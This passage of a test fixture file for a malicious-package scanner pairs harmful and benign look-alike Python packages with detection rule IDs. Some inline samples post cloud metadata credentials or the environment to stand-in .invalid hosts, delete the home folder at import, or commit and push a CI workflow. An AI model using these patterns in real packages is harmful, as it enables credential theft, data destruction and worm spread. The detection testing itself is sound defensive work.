        "setup(name='shortcut', version='1.0', packages=['shortcut'])\n"),
    "shortcut/__init__.py": "",
}
WORM_WORKFLOW = _init("ciboost", (
    "import os, subprocess\n\n"
    "_wf = os.path.join(os.getcwd(), '.github', 'workflows', 'boost.yml')\n"
    "if os.path.isdir(os.path.join(os.getcwd(), '.git')):\n"
    "    os.makedirs(os.path.dirname(_wf), exist_ok=True)\n"
    "    with open(_wf, 'w') as fh:\n"
    "        fh.write('on: push\\njobs: {}\\n')\n"
    "    subprocess.run(['git', 'add', _wf])\n"
    "    subprocess.run(['git', 'commit', '-m', 'ci'])\n"
    "    subprocess.run(['git', 'push'])\n"))
RELEASE_BENIGN = {
    "reltool/__init__.py": "",
    "reltool/cli.py": (
        "import glob, os, subprocess, sys\n\n\n"
        "def main():\n"
        "    subprocess.run([sys.executable, '-m', 'build'], check=True)\n"
        "    subprocess.run(['twine', 'upload', *glob.glob('dist/*')], check=True)\n\n\n"
        "def init_ci(root='.'):\n"
        "    path = os.path.join(root, '.github', 'workflows', 'release.yml')\n"
        "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "    with open(path, 'w') as fh:\n"
        "        fh.write('on: [push]\\n')\n"),
}

UPLOAD_CMD_BENIGN = {
    "setup.py": (
        "import os, sys\nfrom setuptools import setup, Command\n\n\n"
        "class UploadCommand(Command):\n"
        "    description = 'Build and publish the package.'\n"
        "    user_options = []\n\n"
        "    def initialize_options(self):\n        pass\n\n"
        "    def finalize_options(self):\n        pass\n\n"
        "    def run(self):\n"
        "        os.system('{0} setup.py sdist bdist_wheel'.format(sys.executable))\n"
        "        os.system('twine upload dist/*')\n"
        "        os.system('git push --tags')\n"
        "        sys.exit()\n\n\n"
        "setup(name='tmplpkg', version='1.0', cmdclass={'upload': UploadCommand})\n"),
    "tmplpkg/__init__.py": "",
}

BUILD_TOKEN_BENIGN = {
    "setup.py": (
        "import json, os, urllib.request\nfrom setuptools import setup\n\n\n"
        "def fetch(url, token=None):\n"
        "    headers = {'Authorization': 'Bearer ' + token} if token else {}\n"
        "    return urllib.request.urlopen(urllib.request.Request(url, headers=headers))\n\n\n"
        "if os.environ.get('BUILD_DEPS'):\n"
        "    rel = json.load(fetch('https://api.github.com/repos/o/deps/releases/latest',\n"
        "                          os.environ.get('GITHUB_API_TOKEN')))\n"
        "    urllib.request.urlretrieve('https://download.example.org/src/zlib.tar.gz', 'z.tgz')\n"
        "setup(name='nativebuild', version='1.0')\n"),
}

JWT_APP_BENIGN = _init("ghapp", (
    "import time\nimport jwt\nimport requests\n\n\n"
    "class App:\n"
    "    def __init__(self, app_id, private_key):\n"
    "        self.app_id, self.private_key = app_id, private_key\n\n"
    "    def installation_token(self, inst):\n"
    "        now = int(time.time())\n"
    "        token = jwt.encode({'iat': now, 'exp': now + 540, 'iss': self.app_id},\n"
    "                           self.private_key, algorithm='RS256')\n"
    "        return requests.post(\n"
    "            f'https://api.github.com/app/installations/{inst}/access_tokens',\n"
    "            headers={'Authorization': f'Bearer {token}'}).json()['token']\n"))

CASES = [
    Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
         "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
    Case("setup.py: libc memfd_create through ctypes, download written to /proc/self/fd, "
         "started with Popen", "memfdsetup", MEMFD_CTYPES_POPEN, "malicious", ("PV301",)),
    Case("evasion: os.execve of the memfd descriptor itself (fexecve), no path",
         "fdrun", MEMFD_FEXECVE, "malicious", ("PV301",), kind="wheel"),
    Case("benign look-alike: memfd_create for a shared-memory buffer, no exec",
         "shmbuf", MEMFD_BENIGN, "benign", kind="wheel"),
    Case("gcloud access token from the CLI's output posted elsewhere at import",
         "gcphelper", CLI_TOKEN_IMPORT, "malicious", ("PV303",), kind="wheel"),
    Case("setup.py: `gh auth token` through os.popen, posted as JSON", "ghtools",
         CLI_TOKEN_SETUP, "malicious", ("PV303",)),
    Case("evasion: kubectl's raw config, base64 in a request header, from an import-time "
         "thread", "kubeutil", CLI_TOKEN_HEADER, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: deploy CLI using gcloud's token for Google's API",
         "deploytool", CLI_TOKEN_BENIGN, "benign", kind="wheel"),
    Case("logging HTTPHandler carrying the environment at import", "logship", LOG_HTTP,
         "malicious", ("PV303",), kind="wheel"),
    Case("setup.py: logging SMTPHandler mailing the SSH key", "logmail", LOG_SMTP,
         "malicious", ("PV303",)),
    Case("evasion: a SocketHandler handed a record built from a secret", "logsock",
         LOG_SOCKET, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: syslog handler configured when the user asks",
         "svclog", LOG_BENIGN, "benign", kind="wheel"),
    Case("environment in a URL opened in the browser at import", "openhelp",
         BROWSER_OPEN, "malicious", ("PV303",), kind="wheel"),
    Case("setup.py: host and user in a URL handed to xdg-open", "xdgbeacon", BROWSER_XDG,
         "malicious", ("PV304",)),
    Case("evasion: webbrowser imported under another name opens a URL carrying the "
         "environment at import", "quickdocs", _init("quickdocs", (
             "import os, webbrowser as _wb\n"
             "_wb.open_new_tab('https://d.x.invalid/?e=' + repr(dict(os.environ)))\n")),
         "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: CLI opening the documentation", "docsopen", BROWSER_BENIGN,
         "benign", kind="wheel"),
    Case("requests.Session.request replaced at import; Authorization headers copied out",
         "reqretry", HOOK_REQUESTS, "malicious", ("PV324",), kind="wheel"),
    Case("an exchange client's sign method replaced through setattr; API key and secret "
         "posted", "mexcfix", HOOK_SETATTR_SIGN, "malicious", ("PV324",), kind="wheel"),
    Case("benign look-alike: requests.Session.send wrapped to log timings",
         "reqtiming", HOOK_BENIGN, "benign", kind="wheel"),
    Case(".env files walked from the working folder and posted at import", "envsync",
         DOTENV_WALK, "malicious", ("PV303",), kind="wheel"),
    Case("setup.py: .env files globbed under home, sent over a socket", "dotenvgrab",
         DOTENV_GLOB, "malicious", ("PV303",)),
    Case("evasion: python-dotenv's dotenv_values posted at import", "cfgloader",
         DOTENV_VALUES, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: load_dotenv at import, API base URL from the environment",
         "appsettings", DOTENV_BENIGN, "benign", kind="wheel"),
    Case("downloaded module written beside the package and imported at import",
         "lazyplug", DROP_IMPORT, "malicious", ("PV301",), kind="wheel"),
    Case("downloaded shared library written to the temp folder and loaded with ctypes",
         "colorfast", DROP_CDLL, "malicious", ("PV301",), kind="wheel"),
    Case("benign look-alike: CLI downloading a model config and reading it as JSON",
         "modelget", DROP_BENIGN, "benign", kind="wheel"),
    Case("chat bot API polled from an import-time thread, text run as a command",
         "chatops", CHAT_C2, "malicious", ("PV325",), kind="wheel"),
    Case("evasion: chat messages handed to a method that runs them, from a Timer",
         "zulipbot", CHAT_C2_ZULIP, "malicious", ("PV325",), kind="wheel"),
    Case("benign look-alike: chat bot dispatching commands to registered functions",
         "chatcmds", CHAT_BENIGN, "benign", kind="wheel"),
    Case("home folder removed at import after a date", "passlock", WIPE_DATE,
         "malicious", ("PV350",), kind="wheel"),
    Case("machine shut down at import unless a variable is set", "pwcheck",
         WIPE_SHUTDOWN, "malicious", ("PV350",), kind="wheel"),
    Case("benign look-alike: clearing the package's own cache folder on request",
         "cachetool", WIPE_BENIGN, "benign", kind="wheel"),
    Case("evasion: the home folder's path fetched through an alias of expanduser, then "
         "removed at import", "tidyhome", _init("tidyhome", (
             "import os, shutil, time\n\n_home = os.path.expanduser\n"
             "if time.time() > 1.0:\n    shutil.rmtree(_home('~'), ignore_errors=True)\n")),
         "malicious", ("PV350",), kind="wheel"),
    Case("evasion: setup.py removes the home folder through expanduser imported under "
         "another name", "homesweep", _setup("homesweep", (
             "import shutil\nfrom os.path import expanduser as _h\n\n"
             "shutil.rmtree(_h('~'), ignore_errors=True)\n")),
         "malicious", ("PV350",)),
    Case("benign look-alike: a cache folder under home cleared at import through an alias "
         "of expanduser", "cachereset", _init("cachereset", (
             "import os, shutil\n\n_home = os.path.expanduser\n"
             "if os.environ.get('CACHERESET_CLEAR'):\n"
             "    shutil.rmtree(_home('~/.cache/cachereset'), ignore_errors=True)\n")),
         "benign", kind="wheel"),
    Case("metadata-service role credentials posted elsewhere at import", "awsregion",
         IMDS_POST, "malicious", ("PV312",), kind="wheel"),
    Case("setup.py: GCP metadata token posted elsewhere", "gcpmeta", IMDS_GCP,
         "malicious", ("PV312",)),
    Case("benign look-alike: region read from the metadata service on request",
         "cloudregion", IMDS_BENIGN, "benign", kind="wheel"),
    Case("evasion: the metadata service's address built from pieces; the role's keys "
         "posted elsewhere at import", "awszone", _init("awszone", (
             "import urllib.request\n\n_md = 'http://' + '169.254' + '.169.254'\n"
             "_r = urllib.request.urlopen(_md + '/latest/meta-data/iam/security-credentials/')"
             ".read().decode()\n"
             "_k = urllib.request.urlopen(_md + '/latest/meta-data/iam/security-credentials/'"
             " + _r).read()\n"
             "urllib.request.urlopen('https://c.x.invalid/k', data=_k)\n")),
         "malicious", ("PV312",), kind="wheel"),
    Case("wallet key from the environment posted as a JSON-RPC parameter at import",
         "polyutil", RPC_KEY, "malicious", ("PV303",), kind="wheel"),
    Case("a .pth line runs a module that fetches a JavaScript runtime from its release page "
         "and runs a bundled script with it", "bunrt", BUN_PTH, "malicious", ("PV301",), kind="wheel"),
    Case("a .pth import harvests keys, .env files and the environment, seals them with a "
         "bundled public key and posts them", "lite", HARVEST_RSA, "malicious", ("PV303",), kind="wheel"),
    Case("downloaded script registered as a systemd user service at import", "sysmonkit",
         SYSTEMD_USER, "malicious", ("PV401",), kind="wheel"),
    Case("client whose base URL is hidden in base64, sending the user's token and a "
         "machine id on use", "mktdata", HIDDEN_BASE, "suspicious", ("PV310",), kind="wheel"),
    Case("evasion: a seed checker posting its argument to a base64 address through a "
         "nested helper", "seedtool", HIDDEN_PARAM, "suspicious", ("PV310",), kind="wheel"),
    Case("benign look-alike: base64 for a Basic auth header to a plain API URL",
         "apiclient", HIDDEN_BENIGN, "benign", kind="wheel"),
    Case("code hidden as tabs and spaces in a string, turned into bytes and exec'd by a "
         "constructor called at import", "logkit", WHITESPACE_STEGO, "malicious", ("PV201",),
         kind="wheel"),
    Case("the victim's GitHub token opens a repository and commits the environment at "
         "import", "ghsync", GH_REPO_EXFIL, "malicious", ("PV303",), kind="wheel"),
    Case("evasion: `from requests import post` (no `requests.` in the text) posting a token "
         "at import", "cfgpush", FROM_IMPORT_POST, "malicious", ("PV303",), kind="wheel"),
    Case("SDK look-alike: the client constructor posts the access key and its secret to a "
         "fixed host", "cloudsdk", SDK_CTOR, "suspicious", ("PV303",), kind="wheel"),
    Case("wallet helper posting the private key it is given, URL in an f-string",
         "ethhelper", SDK_WALLET, "suspicious", ("PV303",), kind="wheel"),
    Case("evasion: API secret carried in a query parameter of a GET, through an f-string",
         "exchkit", SDK_FSTRING, "suspicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: SDK signing requests with its secret (HMAC), sending the key "
         "id and the signature", "signsdk", SDK_SIGNING_BENIGN, "benign", kind="wheel"),
    Case("benign look-alike: OAuth password grant sending client_secret and password to "
         "the login endpoint", "oauthlite", OAUTH_BENIGN, "benign", kind="wheel"),
    Case("setup.py reads every process's environment from /proc and posts it",
         "cirunner", PROC_ENVIRON, "malicious", ("PV303",)),
    Case("evasion: /proc/<pid>/environ through an f-string, sent over a socket at import",
         "procpeek", PROC_FSTRING, "malicious", ("PV303",), kind="wheel"),
    Case("token-like variables outside the well-known list posted at import", "aihelper",
         TOKEN_VARS, "malicious", ("PV303",), kind="wheel"),
    Case("benign look-alike: HF_TOKEN sent to huggingface.co by a function the user calls",
         "hfmirror", TOKEN_OWN_BENIGN, "benign", kind="wheel"),
    Case("Solana keypair file posted from an import-time thread (path in pieces)",
         "soltoken", SOLANA_KEY, "malicious", ("PV303",), kind="wheel"),
    Case("setup.py gathers AI-assistant and CLI credential files and posts them", "aitools",
         AI_CONFIGS, "malicious", ("PV303",)),
    Case("benign look-alike: CLI loading the user's Solana keypair to sign locally",
         "solsign", SOLANA_BENIGN, "benign", kind="wheel"),
    Case("printenv's output posted by an httpx client opened in a with block, at import",
         "envcheck", ENV_PRINTENV, "malicious", ("PV303",), kind="wheel"),
    Case("the environment unpacked into a websocket message at import", "wsmetrics",
         ENV_UNPACK_WS, "malicious", ("PV303",), kind="wheel"),
    Case("evasion: setup.py formats os.environ into pycurl's POST fields", "curlenv",
         ENV_FSTRING_CURL, "malicious", ("PV303",)),
    Case("benign look-alike: git describe at import with the environment handed to the "
         "child; a version check the user calls", "gitver", ENV_CHILD_BENIGN, "benign",
         kind="wheel"),
    Case("pydantic plugin module that posts the environment when pydantic loads it",
         "pdtrace", PYDANTIC_PLUGIN, "malicious", ("PV303",)),
    Case("Hypothesis entry point whose function posts AWS credentials when Hypothesis calls "
         "it", "hypstrat", HYPOTHESIS_HOOK, "malicious", ("PV303",)),
    Case("benign look-alike: pydantic plugin logging schema types", "pdlog",
         PYDANTIC_BENIGN, "benign"),
    Case("worm: builds the project in the working folder and uploads it with twine at "
         "import, when ~/.pypirc exists", "pubhelper", WORM_TWINE, "malicious", ("PV351",),
         kind="wheel"),
    Case("worm: a .pth start-up module posts to PyPI's upload endpoint with the user's token",
         "pypush", WORM_UPLOAD_URL, "malicious", ("PV351",), kind="wheel"),
    Case("benign look-alike: setup.py's `publish` shortcut running twine when the "
         "maintainer types it (requests' setup.py)", "shortcut", PUBLISH_SHORTCUT_BENIGN,
         "benign"),
    Case("benign look-alike: setup.py's release and coverage shortcuts beside each other "
         "(twine upload, a local server for the report), run when the maintainer types them",
         "shortcuts2", _setup("shortcuts2", (
             "import os, socket, sys\n\n\n"
             "def serve_report(directory):\n"
             "    for port in [80] + list(range(8000, 8100)):\n"
             "        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
             "        try:\n            s.bind(('localhost', port))\n"
             "        except OSError:\n            continue\n"
             "        s.close()\n        os.chdir(directory)\n"
             "        os.system('python3 -m http.server %d' % port)\n        break\n\n\n"
             "if sys.argv[-1] == 'publish':\n"
             "    os.system('rm -rf dist')\n    os.system('python3 setup.py sdist')\n"
             "    os.system('twine upload dist/*')\n    sys.exit()\n"
             "elif sys.argv[-1] == 'coverage':\n"
             "    os.system('coverage run setup.py test')\n"
             "    serve_report('htmlcov')\n    sys.exit()\n")), "benign"),
    Case("evasion: a CI workflow written into the working repository and pushed at import",
         "ciboost", WORM_WORKFLOW, "malicious", ("PV351",), kind="wheel"),
    Case("benign look-alike: release CLI that builds, uploads with twine and writes a "
         "workflow when the user runs it", "reltool", RELEASE_BENIGN, "benign", kind="wheel"),
    Case("benign look-alike: setup.py's `upload` command class running twine (the "
         "common template), run only when the maintainer types it", "tmplpkg",
         UPLOAD_CMD_BENIGN, "benign"),
    Case("benign look-alike: setup.py fetching release data from GitHub with "
         "GITHUB_API_TOKEN and sources from a mirror without it", "nativebuild",
         BUILD_TOKEN_BENIGN, "benign"),
    Case("evasion: the look-alike client in a module nothing imports at import, "
         "`import time, requests` on one line", "tea-sdk", SDK_UNREACHED, "suspicious",
         ("PV303",), kind="wheel"),
    Case("benign look-alike: GitHub App client signing a JWT with its private key and "
         "sending the JWT", "ghapp", JWT_APP_BENIGN, "benign", kind="wheel"),
    Case("evasion: the look-alike credentials provider posts to a base64-hidden URL",
         "osssdk", SDK_HIDDEN_URL, "suspicious", ("PV303",), kind="wheel"),
]
